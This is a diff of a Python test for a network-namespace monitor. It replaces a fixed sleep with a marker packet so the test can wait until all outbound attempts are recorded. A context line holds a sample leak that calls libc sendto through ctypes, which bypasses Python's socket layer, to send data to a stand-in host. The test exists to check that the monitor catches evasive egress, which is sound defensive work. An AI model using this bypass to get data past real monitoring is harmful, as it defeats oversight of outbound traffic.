@@ -26,14 +26,17 @@ _libc = ctypes.CDLL(None)
 _to = struct.pack("=H", 2) + struct.pack("!H4s8x", 9, socket.inet_aton("192.0.2.9"))
 _libc.sendto(_libc.socket(2, 2, 0), b"leak", 4, 0, _to, 16)
 """
+# The last packet is a marker: once the monitor has seen it, it has seen those before it.
 MONITORED_SCRIPT = """
+import socket, time
 from appliance.launcher import network_namespace
 monitor = network_namespace.enter()
 monitor.start()
 {leak}
-import time
-time.sleep(0.5)
-print(*monitor.attempts(), sep="\\n")
+socket.socket(type=socket.SOCK_DGRAM).sendto(b"", ("192.0.2.255", 9))
+while (marker := "udp 192.0.2.255:9") not in monitor.attempts():
+    time.sleep(0.01)
+print(*(attempt for attempt in monitor.attempts() if attempt != marker), sep="\\n")
 """
 
 
